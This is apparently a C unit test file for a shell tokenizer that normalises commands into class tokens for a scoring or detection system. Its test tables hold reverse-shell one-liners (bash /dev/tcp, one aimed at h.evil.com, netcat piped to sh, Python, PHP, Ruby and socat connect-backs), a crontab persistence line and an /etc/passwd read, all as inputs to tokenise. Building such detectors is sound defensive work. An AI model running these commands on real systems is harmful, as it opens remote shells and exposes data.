/* test_shtok.c: the shell tokenizer, table-driven: every shell construct of docs/scoring.md, the
 * class tokens, interpreter payloads, and malformed input (never a crash, never an empty result).
 * Expected token lists are written by hand from the rules, not produced by the code. */
#include <stdlib.h>
#include <string.h>
#include "shtok.h"
#include "tap.h"

static struct shtok tk;

/* Tokens of s joined by single spaces. */
static const char *toks(const char *s, size_t n)
{
	static char out[SHTOK_BUF + SHTOK_MAX_TOKENS];
	size_t o = 0;

	shtok_run(&tk, s, n);
	for (uint32_t i = 0; i < tk.n; i++) {
		struct sw_str t = shtok_get(&tk, i);

		if (i)
			out[o++] = ' ';
		memcpy(out + o, t.p, t.len);
		o += t.len;
	}
	out[o] = '\0';
	return out;
}

struct row {
	const char *in, *want;
};

static void table(const struct row *rows, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		const char *got = toks(rows[i].in, strlen(rows[i].in));

		CHECKF(!strcmp(got, rows[i].want), "input [%s]\n#     want [%s]\n#     got  [%s]",
		       rows[i].in, rows[i].want, got);
	}
}
#define TABLE(r) table(r, sizeof(r) / sizeof(r[0]))

static void test_quotes_escapes(void)
{
	static const struct row r[] = {
		{ "echo 'a'\"b\"c", "echo abc" },
		{ "grep \"x\\\"y\" f", "grep x\"y f" },
		{ "echo a\\ b", "echo a b" },                  /* escaped blank: one word, re-lexed no */
		{ "echo 'two words'", "echo two words" },       /* quoted blanks are lexed as shell */
		{ "printf '%s\\n' x", "printf %s\\n x" },
		{ "echo $'a\\tb'", "echo a\\tb" },
	};
	TABLE(r);
}

static void test_variables_substitutions(void)
{
	static const struct row r[] = {
		{ "echo $HOME $foo ${bar} ${#x} $1 $?", "echo $HOME $V $V $# $1 $?" },
		{ "cat /boot/config-$(uname -r)", "cat $( uname -r ) /boot/config-" },
		{ "me=`basename \"$0\"`", "$( basename $0 ) me=" },
		{ "echo \"$(id)\"", "echo $( id )" },
		{ "x=$(echo $(date))", "$( echo $( date ) ) x=" },
	};
	TABLE(r);
}

static void test_operators(void)
{
	static const struct row r[] = {
		{ "a | b || c && d ; e & f", "a | b || c && d ; e & f" },
		{ "a|b;c", "a | b ; c" },
		{ "a |& b", "a |& b" },
		{ "(cd x; ls)", "( cd x ; ls )" },
		{ "a\nb", "a ; b" },
		{ "ls # comment | nc", "ls" },
	};
	TABLE(r);
}

static void test_redirections(void)
{
	static const struct row r[] = {
		{ "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash -i >& /dev/tcp <IP> <PORT> 0>&1" },
		{ "sh -i > /dev/udp/h.evil.com/53 0<&1 2>&1", "sh -i > /dev/udp <HOST> <PORT> 0<&1 2>&1" },
		{ "exec 196<>/dev/tcp/1.2.3.4/80", "exec N<> /dev/tcp <IP> <PORT>" },
		{ "cat <&5 2>&3 >&-", "cat <&N 2>&N >&-" },
		{ "make &> log; make &>> log", "make &> log ; make &>> log" },
		{ "cat >> f < g >| h", "cat >> f < g >| h" },
		{ "cmd 2>/dev/null", "cmd 2> /dev/null" },
		{ "grep x <<< \"$y\"", "grep x <<< $V" },
		{ "bash <<< 'sh -i'", "bash <<< sh -i" },
		{ "cat <<EOF", "cat << <DELIM>" },
		{ "cat <<-'END' > f", "cat <<- <DELIM> > f" },
	};
	TABLE(r);
}

static void test_payloads(void)
{
	static const struct row r[] = {
		{ "bash -c 'nc 1.2.3.4 80 | sh'", "bash -c nc <IP> <PORT> | sh" },
		{ "/bin/sh -lc \"id;uname\"", "sh -lc id ; uname" },
		{ "python3 -c 'import socket;s.connect((\"1.2.3.4\",443))'",
		  "python -c import socket s connect <IP> <PORT>" },
		{ "perl -e 'exec \"/bin/sh -i\";'", "perl -e exec sh -i" },
		{ "ruby -rsocket -e 'TCPSocket.new(\"h.example.com\",9)'",
		  "ruby -rsocket -e TCPSocket new <HOST> 9" },
		{ "php -r '$s=fsockopen(\"1.2.3.4\",80);'", "php -r $V fsockopen <IP> <PORT>" },
		{ "node -e 'require(\"net\")'", "node -e require net" },
		{ "lua5.3 -e 'os.execute(\"id\")'", "lua -e os execute id" },
		{ "awk -F: '{print $1}' /etc/passwd", "awk -F: print $V /etc/passwd" },
		{ "gawk -v x=1 'BEGIN{system(\"id\")}'", "gawk -v x= 1 BEGIN system id" },
		{ "sudo -E bash -c 'id'", "sudo -E bash -c id" },
		{ "echo \"* * * * * sh -c 'id'\" | crontab -",
		  "echo * * * * * sh -c id | crontab -" },
		{ "socat tcp:1.2.3.4:80 exec:'bash -li',pty", "socat tcp <IP> <PORT> exec bash -li pty" },
	};
	TABLE(r);
}

static void test_classes(void)
{
	static const struct row r[] = {
		{ "nc 192.168.1.10 4444", "nc <IP> <PORT>" },
		{ "nc 3232235786 4444", "nc <IPDEC> <PORT>" },
		{ "nc 0xc0a8010a 4444", "nc <IPHEX> <PORT>" },
		{ "ping6 fe80::1 ::1 [2001:db8::2]", "ping6 <IP6> <IP6> <IP6>" },
		{ "ssh deploy@build.example.org -p 2222", "ssh deploy <HOST> -p <NUM>" },
		{ "head -n 100 file.txt conf.d", "head -n <NUM> file.txt conf.d" },
		{ "curl http://1.2.3.4:8080/x/run.sh", "curl http:// <IP> <PORT> /x/run.sh" },
		{ "wget https://[::1]:443/a", "wget https:// <IP6> <PORT> /a" },
		{ "bash -i >& /dev/tcp/2130706433/80 0>&1", "bash -i >& /dev/tcp <IP> <PORT> 0>&1" },
		{ "cp x /tmp/aZ9kQ2mX7pL1", "cp x /tmp/<RND>" },
		{ "/tmp/x8Fk29dLq0 -v", "/tmp/ <RND> -v" },
		{ "cat /var/lib/a/b/c/d/e.log", "cat /var/lib/.../e.log" },
		{ "echo aGVsbG8gd29ybGQgZnJvbSBiYXNlNjQ= | base64 -d", "echo <B64> | base64 -d" },
		{ "dd if=/dev/zero of=/tmp/f bs=1M", "dd if= /dev/zero of= /tmp/f bs= 1M" },
		{ "python3.11 -V; perl5.36 -v", "python -V ; perl -v" },
	};
	TABLE(r);
}

/* Malformed input degrades and never fails: at least one token, no crash, bounded output. */
static void test_malformed(void)
{
	static const struct row r[] = {
		{ "", "<EMPTY>" },
		{ " \t ", "<EMPTY>" },
		{ "echo 'unterminated", "echo unterminated" },
		{ "echo \"open $(id", "echo $( id ) open" },
		{ "echo `id", "echo $( id )" },
		{ "ls \\", "ls" },
		{ "echo ${x", "echo $V" },
		{ ">&", ">&" },
		{ ")))(((", ") ) ) ( ( (" },
		{ "x\x01\x02y z", "<BIN> z" },
	};
	static char big[SHTOK_MAX_INPUT + 100];
	char deep[400] = "";

	TABLE(r);
	CHECK(shtok_run(&tk, "a\0b", 3) >= 1);
	memset(big, 'a', sizeof(big));
	for (size_t i = 0; i < sizeof(big); i += 3)
		big[i] = ' ';
	CHECK(shtok_run(&tk, big, sizeof(big)) == SHTOK_MAX_TOKENS && tk.dropped > 0);
	for (int i = 0; i < 60; i++)
		strcat(deep, "$(");
	CHECK(shtok_run(&tk, deep, strlen(deep)) >= 1);
	strcpy(deep, "bash -c \"sh -c 'bash -c \\\"sh -c \\\\\\\"bash -c id\\\\\\\"\\\"'\"");
	CHECKF(strstr(toks(deep, strlen(deep)), "id") != NULL, "%s", toks(deep, strlen(deep)));
}

int main(void)
{
	RUN(test_quotes_escapes);
	RUN(test_variables_substitutions);
	RUN(test_operators);
	RUN(test_redirections);
	RUN(test_payloads);
	RUN(test_classes);
	RUN(test_malformed);
	return tap_done();
}
